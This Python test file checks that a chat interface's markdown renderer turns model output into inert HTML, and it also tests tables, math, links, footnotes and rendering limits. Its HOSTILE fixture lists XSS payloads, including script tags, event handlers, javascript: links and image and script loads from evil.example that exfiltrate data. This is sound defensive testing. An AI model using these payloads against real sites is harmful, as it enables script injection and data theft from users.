"""What a model writes can be read, and can do nothing else."""

import random
import re
import time

import pytest

from tests.ui.chat.test_chat import ask
from tests.ui.conftest import Reader, until
from tests.ui.stand_in import StandIn
from ui.markdown.incremental import MAX_TAIL_CHARS, render_incrementally
from ui.markdown.plain_text import MAX_MARKDOWN_CHARS
from ui.markdown.render import render
from ui.theme import katex

HOSTILE = {
    "script": "<script>alert(1)</script>",
    "inline script": "hello <script src=//evil.example/x.js></script>",
    "handler": '<img src=x onerror="alert(1)">',
    "svg": "<svg onload=alert(1)><animate onbegin=alert(1) /></svg>",
    "style": "<style>body{display:none}</style>",
    "frame": '<iframe src="https://evil.example"></iframe>',
    "form": '<form action="https://evil.example"><input name=key></form>',
    "javascript link": "[click](javascript:alert(1))",
    "javascript link, disguised": "[x](JaVaScRiPt&#58;alert(1)) [x](java\tscript:alert(1)) <javascript:alert(1)>",
    "data link": "[click](data:text/html;base64,PHNjcmlwdD4=)",
    "file link": "[click](file:///etc/passwd) [click](vbscript:msgbox)",
    "own origin": "[click](/c/conv_1) [click](//evil.example)",
    "remote image": "![steal](https://evil.example/log?q=secret)",
    "image in link": "[![steal](https://evil.example/a.png)](https://example.org)",
    "attribute break-out": '[a](https://example.org/"onmouseover="alert(1)) ![x"onerror=alert(1)](https://e.org/"x)',
    "fence break-out": '```"><script>alert(1)</script>\n</code></pre><script>alert(1)</script>\n```',
    "act": '<button data-act="stop">x</button>',
    "bare links": 'javascript:alert(1) data:text/html,x https://e.org/"onclick=alert(1) https://e.org/<script>alert(1)</script>',
    "footnotes": '[^"onclick="alert(1)] [^1]\n\n[^"onclick="alert(1)]: <script>alert(1)</script>\n[^1]: <b onclick=x>',
    "task": "- [x] <input onfocus=alert(1) autofocus>\n- [ ] [a](javascript:alert(1))",
}
ALLOWED_TAGS = {
    *("p", "a", "em", "strong", "s", "code", "pre", "div", "span", "button", "ul", "ol", "li", "blockquote", "hr"),
    *("br", "h1", "h2", "h3", "h4", "h5", "h6", "table", "thead", "tbody", "tr", "th", "td", "sup"),
}
ALLOWED_ATTRIBUTES = {
    *("class", "href", "rel", "title", "type", "data-act", "data-done", "data-note", "style", "start", "dir"),
    *("role", "aria-label"),
}
TAG = re.compile(r"<(/?)([a-zA-Z][^\s/>]*)((?:\s+[^\s=>]+(?:=\"[^\"]*\")?)*)\s*/?>")


@pytest.mark.parametrize("text", HOSTILE.values(), ids=HOSTILE.keys())
def test_hostile_markdown_becomes_inert_html(text: str) -> None:
    html = render(text)
    assert_inert(html)
    grown = render_incrementally(text, text.rfind("\n") + 1)
    assert_inert(grown.settled + grown.tail)


def assert_inert(html: str) -> None:
    """Only known tags with known attributes, only links that lead out, and nothing that loads by itself."""
    assert html.count("<") == len(TAG.findall(html)), f"a stray < in {html}"
    for _, name, attributes in TAG.findall(html):
        assert name in ALLOWED_TAGS, name
        for attribute, value in re.findall(r"([^\s=]+)=\"([^\"]*)\"", attributes):
            assert attribute in ALLOWED_ATTRIBUTES, attribute
            if attribute == "href":
                assert value.startswith(("https://", "http://", "mailto:")), value
            if attribute == "style":
                assert re.fullmatch(r"text-align:(left|right|center)", value), value
            if attribute == "data-act":
                assert value in ("copy-code", "to-note", "to-text")


async def test_hostile_output_is_inert_on_the_page(reader: Reader, api: StandIn) -> None:
    api.behaviour.answer = "\n\n".join(HOSTILE.values()) + "\n\nThe end."
    await reader.open("/")
    await ask(reader, "<b>Do your worst</b>")
    await until(lambda: "The end." in reader.answer())
    assert_inert(reader.answer())
    assert reader.texts("bubble") == ["<b>Do your worst</b>"]  # as text: it is not in an innerHTML
    assert "An image is named: steal" not in reader.answer() and "Image: steal" in reader.answer()


def test_markdown_is_rendered_with_tables_and_highlighted_code() -> None:
    html = render(
        "# T\n\n| a | b |\n|---|--:|\n| 1 | 2 |\n\n```python\nprint('x')\n```\n\n~~no~~ [x](https://example.org)"
    )
    assert '<div class="table"><table>' in html and 'style="text-align:right"' in html
    assert 'class="code-copy"' in html and '<span class="nb">print</span>' in html and "<span>python</span>" in html
    assert "<s>no</s>" in html and '<a href="https://example.org" rel="noopener noreferrer">x</a>' in html


@pytest.mark.parametrize("language", ["", "no-such-language", "python3.11", "c++"])
def test_code_of_any_language_keeps_its_text(language: str) -> None:
    assert "a &lt; b" in re.sub(r"</?span[^>]*>", "", render(f"```{language}\na < b\n```"))


TEXT = """Intro with **bold** text.

# Head

1. one

2. two

   more of two

- a
- b

| a | b |
|---|---|
| 1 | 2 |

```python
def f():

    return 1
```

> quote
lazy

- [x] done[^1]

[^1]: A note

    with **two** parts.
[^2]: https://example.org/a_b_c

last *line*[^2]"""


@pytest.mark.parametrize("seed", range(25))
def test_a_growing_text_ends_as_the_same_html_as_the_whole(seed: int) -> None:
    rng, settled, settled_chars, end = random.Random(seed), "", 0, 0
    tail = ""
    while end < len(TEXT):
        end += rng.randint(1, 12)
        text = TEXT[settled_chars:end]
        grown = render_incrementally(text, text.rfind("\n") + 1)
        settled, tail, settled_chars = settled + grown.settled, grown.tail, settled_chars + grown.settled_chars
    assert squeezed(settled + tail) == squeezed(render(TEXT))
    assert squeezed(settled)  # most of it was rendered once only


def squeezed(html: str) -> str:
    return re.sub(r"\s+", " ", html).strip()


PIECES = ["[", "![", "*a ", "[a](", "`a", "> ", "- ", "|a", "<a", "&a", "\n\n[", "#", "**「", "- [x] ", "[^", "[^1]"]
NOTES_AND_LINKS = ["[^a]: ", "[^1]: x\n", "http://", "https://a/)", "https://a/(((", "mailto:a@"]
FORMULAS = ["$a ", "$", "$(", "\\[\n", "\\[\nx\n", "$$a\n"]


@pytest.mark.parametrize("piece", [*PIECES, *NOTES_AND_LINKS, *FORMULAS])
def test_no_text_is_slow_to_render_past_the_bounds(piece: str) -> None:
    began = time.process_time()
    text = piece * (MAX_TAIL_CHARS // len(piece))
    render_incrementally(text, text.rfind("\n") + 1)
    render(text * (1 + MAX_MARKDOWN_CHARS // len(text)))  # past the bound: plain text
    assert time.process_time() - began < 3.0


@pytest.mark.parametrize(
    ("written", "read"),
    [
        ("so $a^2 < b$ holds", '<span class="math">a^2 &lt; b</span>'),
        ("so \\(a_1\\) holds", '<span class="math">a_1</span>'),
        ("$$\n\\frac{1}{2}\n$$", '<div class="math math-block">\\frac{1}{2}</div>'),
        ("\\[ x_1 * x_2 * x_3 \\]", '<div class="math math-block">x_1 * x_2 * x_3</div>'),
        ("the $n$th of $a$, ($[0,1)$) and **$b$**", '<span class="math">n</span>th of <span class="math">a</span>, ('),
        ("设$x$为实数，$y$は", '设<span class="math">x</span>为实数，<span class="math">y</span>は'),
        ("$a \\$ b$", '<span class="math">a \\$ b</span>'),
        ("so $$E=mc^2$$ holds", '<span class="math">E=mc^2</span>'),
        ("> \\[\n> x\n> \\]", '<div class="math math-block">x</div>'),
        ("$<img src=x onerror=alert(1)>$", '<span class="math">&lt;img src=x onerror=alert(1)&gt;</span>'),
    ],
)
def test_formulas_are_kept_as_their_source(written: str, read: str) -> None:
    assert read in render(written)


PRICES = [
    "It costs $5 and $10.",
    "from $5 to $6",
    "a $ b",
    "$5 to 6$ a day",
    "US$5 or US$6",
    "$5 (US$)",
    "(about 25$) or 25$.",
]
VARIABLES = ["$HOME/bin:$PATH", "$PATH (about 25$)", "${A}/${B}", "$(pwd)/$(date)", "kill $$ and rm /tmp/$$.pid"]
CODE = ["an open $x", "`$x$`", "$5 `a$`", "$1 and $NF", "$.ajax/$.get", "$$\nopen"]


@pytest.mark.parametrize("text", [*PRICES, *VARIABLES, *CODE])
def test_money_variables_and_code_are_no_formulas(text: str) -> None:
    assert "math" not in render(text)


@pytest.mark.parametrize(
    ("written", "address"),
    [
        ("See https://example.org/a_b_c?x=1&y=2, then", "https://example.org/a_b_c?x=1&y=2"),
        ("(https://en.wikipedia.org/wiki/A_(b))", "https://en.wikipedia.org/wiki/A_(b)"),
        ("At http://localhost:8000.", "http://localhost:8000"),
        ("**https://example.org/x**: bold", "https://example.org/x"),
        ('"https://example.org"', "https://example.org"),
        ("Write to mailto:a@example.org.", "mailto:a@example.org"),
        ("请看https://example.com，谢谢", "https://example.com"),
        ("https://example.com/docs를 보세요", "https://example.com/docs"),
        ("https://example.org/$a$b", "https://example.org/$a$b"),
        ("https://example.org@evil.example", "https://example.org"),
        ("| a |\n|---|\n| https://example.org |", "https://example.org"),
    ],
)
def test_a_bare_address_is_a_link_without_the_sentence_around_it(written: str, address: str) -> None:
    html = render(written)
    assert re.findall(r'<a href="([^"]*)" rel="noopener noreferrer" dir="ltr">', html) == [
        address.replace("&", "&amp;")
    ]
    assert f">{address.replace('&', '&amp;')}</a>" in html


def test_an_address_in_letters_of_another_script_is_read_whole() -> None:
    html = render("https://zh.wikipedia.org/wiki/数学 https://de.wikipedia.org/wiki/Köln")
    assert (
        ">https://zh.wikipedia.org/wiki/数学</a>" in html and 'href="https://de.wikipedia.org/wiki/K%C3%B6ln"' in html
    )


@pytest.mark.parametrize(
    "text", ["javascript:alert(1)", "xhttp://e.org", "https: //", "ftp://e.org", "`https://e.org`"]
)
def test_other_addresses_and_code_are_no_links(text: str) -> None:
    assert "<a" not in render(text)


def test_a_link_s_words_hold_no_other_link() -> None:
    assert render("[https://a.example](https://b.example)").count("<a") == 1


def test_task_lists_have_boxes() -> None:
    html = render("- [ ] open *it*\n- [x] closed\n- [x]no\n- [x](https://example.org)")
    assert '<li class="task"><span class="task-box" role="img" aria-label="To do"></span> open <em>it</em></li>' in html
    assert '<li class="task"><span class="task-box done" role="img" aria-label="Done"></span> closed</li>' in html
    assert "<li>[x]no</li>" in html and html.count("task-box") == 2 and "<input" not in html


def test_footnotes_have_references_and_notes() -> None:
    html = render("A[^1] and[^why], not [^abc].\n\n[^1]: First.\n[^why]: **Because**\n\n    of more.\n\nEnd")
    assert re.findall(r'<sup><button [^>]*data-act="to-note" data-note="(\w+)"', html) == ["1", "why"]
    assert re.findall(r'<div class="footnote"><button [^>]*data-note="(\w+)"', html) == ["1", "why"]
    assert "[^abc]" in html and "<strong>Because</strong>" in html
    assert '<p dir="auto">of more.</p>\n</div></div>\n<p dir="auto">End</p>' in html


@pytest.mark.parametrize(
    ("written", "read"),
    [
        ("**「引用」**です", "<strong>「引用」</strong>です"),
        ("**これは太字。**次の文", "<strong>これは太字。</strong>次の文"),
        ("前**“引用”**后", "前<strong>“引用”</strong>后"),
        ("이것은 **강조(괄호)**입니다", "<strong>강조(괄호)</strong>입니다"),
        ("これ**`code`**です", "<strong><code"),
        ("~~（旧）~~新", "<s>（旧）</s>新"),
        ("snake_case_name a * b * c", "snake_case_name a * b * c"),
        ('a**"b"**c', "a**&quot;b&quot;**c"),
    ],
)
def test_emphasis_needs_no_blanks_in_chinese_japanese_and_korean(written: str, read: str) -> None:
    assert read in render(written)


def test_a_formula_s_typesetter_is_where_it_is_expected() -> None:
    assert katex() is not None


def test_a_giant_table_is_bounded_and_scrolls_in_its_own_box() -> None:
    giant = render("|a" * 300 + "|\n" + "|-" * 300 + "|\n" + ("|x" * 20 + "|\n") * 300)
    assert giant.startswith('<div class="table">') and 0 < giant.count("<td") < 10_000


def test_a_flood_of_formulas_is_no_flood_of_work() -> None:
    began = time.process_time()
    render("\\(" * 10_000)
    assert time.process_time() - began < 3
